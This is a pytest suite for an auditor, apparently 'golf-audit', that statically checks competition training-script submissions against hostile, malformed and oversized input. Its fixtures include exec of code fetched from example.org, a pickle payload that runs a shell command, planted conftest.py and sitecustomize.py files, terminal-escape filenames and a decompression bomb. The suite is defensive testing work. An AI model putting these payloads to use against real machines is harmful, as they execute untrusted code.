"""``golf-audit check`` on what is hostile, broken or strange: one clear line, the documented exit code, never CLEAN."""

import json
import lzma
import os
import re
import signal
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest

from auditor.cli import run

ROOT = Path(__file__).parents[2]

# A script that is CLEAN as it stands; what is changed about it is what a test is about.
TRAINER = """\
import glob, math
import numpy as np
import torch
import torch.nn.functional as F

def read(pattern):
    return torch.from_numpy(np.concatenate([np.fromfile(p, np.uint16) for p in sorted(glob.glob(pattern))]))

net = torch.nn.Linear(64, 64)
opt = torch.optim.SGD(net.parameters(), lr=0.1)
train, val = read("data/fineweb_train_*.bin"), read("data/fineweb_val_*.bin")
for step in range(100):
    F.cross_entropy(net(train[step:step + 1]), train[step + 1]).backward()
    opt.step()
with torch.no_grad():
    nats = F.cross_entropy(net(val[:-1]), val[1:]).item()
sizes = np.load("data/piece_bytes.npy")[val[1:]]
print(f"val_bpb:{nats / math.log(2.0) * len(sizes) / sizes.sum():.4f}")
"""

LEAKING = TRAINER.replace("with torch", "F.cross_entropy(net(val[:-1]), val[1:]).backward()\nopt.step()\nwith torch")


def record(root: Path, script: str | bytes | None = TRAINER, name: str = "2026-04-01_Name") -> Path:
    folder = root / "records" / "track_10min_16mb" / name
    folder.mkdir(parents=True)
    (folder / "README.md").write_text("# Name\n", "utf-8")
    if script is not None:
        data = script if isinstance(script, bytes) else script.encode("utf-8")
        (folder / "train_gpt.py").write_bytes(data)
    return folder


def checked(capsys, *arguments, code=None):
    """Return the reports on ``arguments``; both forms must end with ``code`` (1 or 0 when None) and no traceback."""
    arguments = [str(argument) for argument in arguments]
    ended = run(["check", *arguments, "--format", "json"])
    out, err = capsys.readouterr()
    assert ended in ((0, 1) if code is None else (code,)), err
    assert "Traceback" not in out + err
    reports = json.loads(out)["reports"]
    assert ended == int(any(report["verdict"] != "CLEAN" for report in reports))
    assert run(["check", *arguments, "--timeline"]) == ended
    text, err = capsys.readouterr()
    assert err == ""
    assert "Traceback" not in text
    assert_harmless(text)
    return reports


def refused(capsys, *arguments):
    """Return the one line with which ``arguments`` are refused as unreadable input."""
    assert run(["check", *map(str, arguments)]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err.count("\n") == 1
    assert_harmless(err)
    return err


def assert_harmless(text: str) -> None:
    """Nothing of a submission may move the cursor, colour the terminal or turn the line around."""
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", text)


def judged(capsys, folder: Path) -> dict:
    (report,) = checked(capsys, folder)
    return report


def unreadable(capsys, folder: Path) -> dict:
    """Return the report on a script that cannot be read: it must say so, and never be CLEAN."""
    (report,) = checked(capsys, folder, code=1)
    assert report["compliance"]["verdict"] == "UNREADABLE"
    assert report["verdict"] in ("UNREADABLE", "HOLD")
    reasons = [f["message"] for f in report["findings"] if f["status"] in ("incomplete", "hold")]
    assert reasons
    return report


def said(report: dict) -> str:
    return " ".join(finding["message"] for finding in report["findings"])


# ------------------------------------------------------------------ paths


def test_the_script_that_the_others_are_made_from_is_clean(tmp_path, capsys):
    report = judged(capsys, record(tmp_path))
    assert report["compliance"]["verdict"] == "CLEAN"
    assert [f for f in report["findings"] if f["status"] != "note" and f["group"] == "compliance"] == []


def test_missing_path(tmp_path, capsys):
    assert "no such file or folder" in refused(capsys, tmp_path / "nothing")


def test_missing_path_beside_a_good_one(tmp_path, capsys):
    assert run(["check", str(record(tmp_path)), str(tmp_path / "nothing"), "--format", "json"]) == 2
    out, err = capsys.readouterr()
    assert len(json.loads(out)["reports"]) == 1
    assert err.count("\n") == 1


def test_empty_folder(tmp_path, capsys):
    assert "no submission in this folder" in refused(capsys, tmp_path)


def test_folder_without_a_script(tmp_path, capsys):
    report = unreadable(capsys, record(tmp_path, None))
    assert "no train script" in said(report)


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_folder_that_links_to_itself(tmp_path, capsys):
    folder = record(tmp_path)
    (folder / "again").symlink_to(folder, target_is_directory=True)
    (folder / "up").symlink_to(tmp_path, target_is_directory=True)
    assert judged(capsys, folder)["compliance"]["verdict"] == "CLEAN"


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_script_that_is_a_link_out_of_the_folder(tmp_path, capsys):
    (tmp_path / "elsewhere.py").write_text(TRAINER, "utf-8")
    folder = record(tmp_path, None)
    (folder / "train_gpt.py").symlink_to(tmp_path / "elsewhere.py")
    unreadable(capsys, folder)


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root can read everything")
def test_unreadable_file(tmp_path, capsys):
    folder = record(tmp_path)
    (folder / "train_gpt.py").chmod(0)
    unreadable(capsys, folder)


def test_two_record_folders(tmp_path, capsys):
    record(tmp_path)
    record(tmp_path, name="2026-04-02_Other")
    line = refused(capsys, tmp_path)
    assert "2026-04-01_Name" in line
    assert "2026-04-02_Other" in line


@pytest.mark.skipif(os.name != "posix", reason="names that other systems refuse")
def test_names_with_line_breaks_and_terminal_escapes(tmp_path, capsys):
    evil = "2026-04-01_\n\x1b[2J\x1b]0;owned\x07\u202e"
    folder = record(tmp_path, name=evil)
    (folder / "he\nlp\x1b[31mer.py").write_text("def f(:\n", "utf-8")
    (folder / "train_gpt.py").write_text('print("\\x1b[2J")\nexec(open("he\\nlp\\x1b[31mer.py").read())\n', "utf-8")
    report = judged(capsys, folder)
    assert report["verdict"] != "CLEAN"
    refused(capsys, folder / "\x1b[2J\nnothing")


# ------------------------------------------------------------------ files that are no scripts


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(256)) * 64,
        b"\x7fELF\x02\x01\x01" + bytes(5000),
        b"\x89PNG\r\n\x1a\n" + os.urandom(999),
        TRAINER.encode() + b"\0",
        b"\0" + TRAINER.encode(),
        TRAINER.replace("import", "imp\0ort", 1).encode(),
        TRAINER.encode()[:300] + b"\xff\xfe\xfa(",
        b"\xff\xfe" + TRAINER.encode()[:-1],
    ],
    ids=["all bytes", "executable", "image", "NUL at the end", "NUL first", "NUL inside", "cut off", "broken UTF-16"],
)
def test_what_is_no_python(data, tmp_path, capsys):
    unreadable(capsys, record(tmp_path, data))


@pytest.mark.parametrize(
    "code", ["", "\n\n", "# nothing\n", "pass\n", "import torch\n", "x = 1\n", '"""Only words."""\n']
)
def test_a_script_that_does_nothing_is_not_clean(code, tmp_path, capsys):
    assert judged(capsys, record(tmp_path, code))["compliance"]["verdict"] != "CLEAN"


def test_a_script_that_trains_and_scores_nothing_is_not_clean(tmp_path, capsys):
    without_a_score = TRAINER.split("with torch.no_grad")[0]
    assert judged(capsys, record(tmp_path, without_a_score))["compliance"]["verdict"] == "HOLD"


@pytest.mark.parametrize(
    ("encode", "note"),
    [
        (lambda text: text.replace("\n", "\r\n").encode(), "CRLF"),
        (lambda text: text.replace("\n", "\r").encode(), "CR"),
        (lambda text: b"\xef\xbb\xbf" + text.encode(), "BOM"),
        (lambda text: (text + "# caf\u00e9\n").encode("latin-1"), "Latin-1"),
        (lambda text: ("# -*- coding: latin-1 -*-\n" + text + "# caf\u00e9\n").encode("latin-1"), "declared"),
        (lambda text: text.encode("utf-16"), "UTF-16"),
        (lambda text: text.replace("\n", "\n\f\n", 1).encode(), "form feed"),
        (lambda text: text.rstrip("\n").encode(), "no newline at the end"),
        (lambda text: (text + "\x1a").encode(), "control-Z at the end"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_other_encodings_and_line_ends_are_read_or_said_not_to_be(encode, note, tmp_path, capsys):
    report = judged(capsys, record(tmp_path, encode(LEAKING)))
    if report["compliance"]["verdict"] == "UNREADABLE":
        assert note in ("CR", "control-Z at the end")
        return
    (found,) = [f for f in report["findings"] if f["rule"] == "prequant-ttt"]
    assert found["status"] == "violation"


# ------------------------------------------------------------------ size, depth, time


def seconds(limit):
    """Fail a test that takes more CPU than ``limit`` seconds."""

    class Timer:
        def __enter__(self):
            self.begun = time.process_time()

        def __exit__(self, *_):
            assert time.process_time() - self.begun < limit

    return Timer()


def test_file_of_50_megabytes(tmp_path, capsys):
    with seconds(10):
        report = unreadable(capsys, record(tmp_path, TRAINER.encode() + b"# " + b"x" * (50 * 1024 * 1024) + b"\n"))
    assert "33,554,432" in said(report) or "32 MiB" in said(report)


def test_line_of_60_kilobytes(tmp_path, capsys):
    body = ";".join(f"x{i}=net.weight[{i % 64}]*{i}+len('{i}')" for i in range(1700))
    assert len(body) > 60_000
    code = TRAINER.replace("with torch", f"{body}\nwith torch")
    with seconds(20):
        assert judged(capsys, record(tmp_path, code))["compliance"]["verdict"] == "CLEAN"


@pytest.mark.parametrize(
    "code",
    [
        "x = " + "(" * 5000 + "1" + ")" * 5000,
        "x = " + "[" * 100_000,
        "x = " + "-" * 50_000 + "1",
        "x = " + "not " * 20_000 + "1",
        "x = 1" + " + 1" * 20_000,
        "x = a" + ".a" * 20_000,
        "x = f" + "()" * 20_000,
        "x = " + "lambda: " * 5000 + "1",
        "x = 1" + " if 1 else 1" * 5000,
        "".join("    " * depth + "if 1:\n" for depth in range(150)) + "    " * 150 + "pass",
        "if 0:\n    pass\n" + "elif 0:\n    pass\n" * 5000,
        "f'" + "{f'" * 200 + "'}" * 200 + "'",
    ],
    ids=["brackets", "open brackets", "minus", "not", "sum", "dots", "calls", "lambda", "else", "blocks", "elif", "f"],
)
def test_deep_nesting(code, tmp_path, capsys):
    with seconds(30):
        assert judged(capsys, record(tmp_path, code + "\n"))["compliance"]["verdict"] != "CLEAN"


@pytest.mark.parametrize(
    "code",
    [
        "def f(n):\n    return f(n + 1)\nf(0)\n",
        "def f(n):\n    return [g(n), g(n + 1)]\ndef g(n):\n    return [f(n), f(n + 1)]\nf(0)\n",
        "while True:\n    pass\n",
        "x = [0]\nfor i in x:\n    x.append(i)\n",
        "for a in range(10**9):\n"
        + "".join(f"{' ' * i}for b{i} in range(10**9):\n" for i in range(1, 15))
        + " " * 15
        + "pass\n",
        "x = 10 ** 10 ** 10\ny = 'a' * 10 ** 12\nz = [0] * 10 ** 12\n",
        "\n".join(f"def f{i}(): return f{i + 1}(), f{i + 1}(), f{i + 1}()" for i in range(40)) + "\nf40 = int\nf0()\n",
    ],
    ids=["recursion", "mutual", "loop", "growing", "nested loops", "constants", "fan-out"],
)
def test_what_never_ends_when_run_ends_when_read(code, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("auditor.timeline.engine.machine.MAX_STEPS", 100_000)
    with seconds(30):
        assert judged(capsys, record(tmp_path, code))["compliance"]["verdict"] != "CLEAN"


def test_an_endless_loop_before_the_trainer_hides_nothing(tmp_path, capsys):
    report = judged(capsys, record(tmp_path, "while True:\n    pass\n" + LEAKING))
    assert "prequant-ttt" in {f["rule"] for f in report["findings"] if f["status"] == "violation"}


# ------------------------------------------------------------------ packing


def test_decompression_bomb(tmp_path, capsys):
    blob = zlib.compress(bytes(200 * 1024 * 1024), 9)
    with seconds(20):
        report = unreadable(capsys, record(tmp_path, f"import zlib\nexec(zlib.decompress({blob!r}))\n"))
    assert "2000 times" in said(report) or "32 MiB" in said(report)


def test_packing_nested_beyond_the_cap(tmp_path, capsys):
    code = TRAINER
    for _ in range(10):
        code = f"import lzma\nexec(lzma.decompress({lzma.compress(code.encode())!r}))\n"
    assert "more than 8 layers" in said(unreadable(capsys, record(tmp_path, code)))


def test_payload_that_cannot_be_known(tmp_path, capsys):
    code = "import urllib.request\nexec(urllib.request.urlopen('https://example.org/a.py').read())\n"
    report = unreadable(capsys, record(tmp_path, code))
    assert "urlopen" in said(report)


def test_payload_that_is_broken(tmp_path, capsys):
    unreadable(capsys, record(tmp_path, "import zlib\nexec(zlib.decompress(b'no such data'))\n"))


def test_payload_that_does_not_parse(tmp_path, capsys):
    code = f"import zlib\nexec(zlib.decompress({zlib.compress(b'def f(:')!r}))\n"
    report = unreadable(capsys, record(tmp_path, code))
    (found,) = [f for f in report["findings"] if f["rule"] == "parse-error"]
    assert (found["layer"], found["line"]) == (1, 1)


def test_helper_that_does_not_parse_is_not_clean(tmp_path, capsys):
    folder = record(tmp_path, "import helper\n" + TRAINER)
    (folder / "helper.py").write_text("def f(:\n", "utf-8")
    report = judged(capsys, folder)
    assert report["compliance"]["verdict"] == "HOLD"
    assert ("helper.py", 1) in [(gap["path"], gap["line"]) for gap in report["not_followed"]]


# ------------------------------------------------------------------ the process


def start(*arguments: str) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "auditor", *arguments],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )


@pytest.mark.skipif(os.name != "posix", reason="signals")
def test_interrupt(tmp_path):
    """Ctrl-C in the middle of an audit: one line and 130, like every program."""
    os.mkfifo(tmp_path / "gate")
    hold = f"import auditor.check as c; c.read_evidence = lambda s: open({str(tmp_path / 'gate')!r}).read()"
    program = (
        f"import sys; from auditor.cli import main; {hold}; sys.argv[1:] = ['check', {str(record(tmp_path))!r}]; main()"
    )
    process = subprocess.Popen([sys.executable, "-c", program], stderr=subprocess.PIPE, text=True, cwd=ROOT)
    gate = os.open(tmp_path / "gate", os.O_WRONLY)  # opens once the audit waits at the other end
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=60)
    os.close(gate)
    assert process.returncode == 130
    assert err.strip().splitlines() == ["golf-audit: interrupted"]


@pytest.mark.skipif(os.name != "posix", reason="pipes")
def test_reader_that_goes_away(tmp_path):
    """``golf-audit check … | head -1`` ends without a traceback."""
    with start("check", str(record(tmp_path)), "--format", "json") as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.close()
        err = process.stderr.read()
    assert "Traceback" not in err
    assert "Exception ignored" not in err


def test_nothing_of_the_submission_runs(tmp_path):
    """Importing, executing or unpickling any of it would leave a trace."""
    trace = tmp_path / "ran"
    bad = f"open({str(trace)!r}, 'w').close()\n"
    folder = record(tmp_path, bad + f"import zlib\nexec(zlib.decompress({zlib.compress(bad.encode())!r}))\n" + TRAINER)
    for name in ("conftest.py", "sitecustomize.py", "torch.py", "rules.py", "libcst.py", "setup.py"):
        (folder / name).write_text(bad, "utf-8")
    (folder / "model.pt").write_bytes(f"cos\nsystem\n(S'touch {trace}'\ntR.".encode())
    process = subprocess.run(
        [sys.executable, "-m", "auditor", "check", "."],
        cwd=folder,
        env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONSAFEPATH": "1"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert process.returncode in (0, 1), process.stderr
    assert not trace.exists()
